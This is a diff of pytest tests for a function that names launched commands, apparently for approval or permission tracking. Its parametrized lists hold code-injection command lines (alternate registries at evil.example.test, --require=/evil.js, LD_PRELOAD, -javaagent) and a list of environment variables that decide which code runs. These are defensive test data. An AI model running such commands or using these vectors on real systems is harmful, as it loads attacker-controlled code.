@@ -65,3 +65,93 @@ def test_what_a_shell_runs_is_told_apart_and_not_repeated() -> None:
 )
 def test_a_url_is_named_by_its_origin(url: str, expected: str) -> None:
     assert of_url(url) == expected
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "npx --registry https://evil.example.test -y plain@2",
+        "npx --registry=https://evil.example.test -y plain@2",
+        "npx -y --node-options=--require=/evil.js plain@2",
+        "npx -y --userconfig /evil/npmrc plain@2",
+        "npx -y -p plain@2 -p evil run-it",
+        "npx -y --package plain@2 node evil.js",
+        "npx -c evil -p plain@2",
+        "npm exec -y plain@2 --registry=https://evil.example.test",
+        "npm --registry https://evil.example.test exec plain@2",
+        "bunx --registry https://evil.example.test plain@2",
+        "env NODE_OPTIONS=--require=/evil.js npx -y plain@2",
+        "env npm_config_registry=https://evil.example.test npx -y plain@2",
+        "sudo npx plain@2",
+        "uvx --index-url https://evil.example.test time==1.0",
+        "uvx --extra-index-url https://evil.example.test time==1.0",
+        "uvx --default-index=https://evil.example.test time==1.0",
+        "uvx --with evil time==1.0",
+        "uvx -f /evil time==1.0",
+        "uvx --from time==1.0 python /evil.py",
+        "uvx --python /evil/python time==1.0",
+        "uvx --what-else evil time==1.0",
+        "uv tool run --index-url https://evil.example.test time==1.0",
+        "uv --config-file /evil tool run time==1.0",
+        "uv run --with time==1.0 --index https://evil.example.test time",
+        "pipx run --pip-args=-ihttps://evil.test time==1.0",
+        "docker run --entrypoint /evil img",
+        "docker run -v /evil:/app img",
+        "docker run -eNODE_OPTIONS=-r/evil.js img",
+        "docker run --env LD_PRELOAD=/evil.so img",
+        "docker --context evil run img",
+        "node --require /evil.js index.js",
+        "node --import=/evil.mjs index.js",
+        "node -r /evil.js index.js",
+        "java -javaagent:/evil.jar -jar app.jar",
+        "java -cp /evil -jar app.jar",
+        "deno run --import-map /evil.json mod.ts",
+    ],
+)
+def test_what_decides_which_code_runs_is_part_of_the_name(line: str) -> None:
+    plain = (
+        "npx -y plain@2", "uvx time==1.0", "uv run --with time==1.0 time", "pipx run time==1.0", "docker run img",
+        "node index.js", "java -jar app.jar", "deno run mod.ts",
+    )  # fmt: skip
+    command, *args = line.split(" ")
+    found = of_command(command, args)
+    assert found not in {of_command(one.split(" ")[0], one.split(" ")[1:]) for one in plain}
+    assert found != of_command(command, [arg.replace("evil", "other").replace("plain", "fancy") for arg in args])
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "NODE_OPTIONS", "NODE_PATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "PYTHONPATH",
+        "PYTHONSTARTUP", "PYTHONHOME", "npm_config_registry", "NPM_CONFIG_REGISTRY", "npm_config_@scope:registry",
+        "UV_INDEX_URL", "UV_DEFAULT_INDEX", "UV_PYTHON", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_CONFIG_FILE",
+        "PATH", "HOME", "BASH_ENV", "RUBYOPT", "PERL5OPT", "JAVA_TOOL_OPTIONS", "CLASSPATH", "GIT_SSH_COMMAND",
+        "DOTNET_STARTUP_HOOKS", "DOCKER_HOST", "GOPROXY", "BUN_CONFIG_REGISTRY", "XDG_CONFIG_HOME",
+    ],
+)  # fmt: skip
+def test_variables_that_decide_which_code_runs_are_part_of_the_name(name: str) -> None:
+    one, other, none = (of_command("npx", ["plain@2"], env=env) for env in ({name: "/a"}, {name: "/b"}, {name: None}))
+    assert len({one, other, none}) == 3
+    assert none == "npm:plain@2"
+
+
+def test_other_variables_and_what_is_secret_are_not() -> None:
+    env = {
+        "API_KEY": "s3cret", "GITHUB_HOST": "x", "GOOGLE_PROJECT": "x", "LDAP_URL": "x", "PIPEDRIVE_ID": "x",
+        "npm_config_//registry.test/:_authToken": "s3cret", "UV_INDEX_OWN_PASSWORD": "s3cret", "PYTHONUNBUFFERED": "1",
+        "NODE_ENV": "production", "GIT_AUTHOR_NAME": "ann",
+    }  # fmt: skip
+    assert of_command("npx", ["plain@2"], env=env) == "npm:plain@2"
+    found = of_command("uvx", ["a"], env={"UV_INDEX_URL": "https://user:s3cret@pypi.test/simple?key=s3cret"})
+    assert found == "pypi:a (UV_INDEX_URL=https://pypi.test/simple)"
+
+
+def test_the_folder_that_a_program_starts_in_is_part_of_the_name_and_the_same_on_every_machine() -> None:
+    names = {
+        of_command("npx", ["a"], folder=Path(f"/home/{who}/p"), cwd=f"/home/{who}/p/sub") for who in ("ann", "ben")
+    }
+    assert names == {"npm:a (in sub)"}
+    folders = {
+        of_command("npx", ["a"], env={"NODE_PATH": f"{place}/lib"}, folder=Path(place)) for place in ("/p", "/q/r")
+    }
+    assert len(folders) == 1
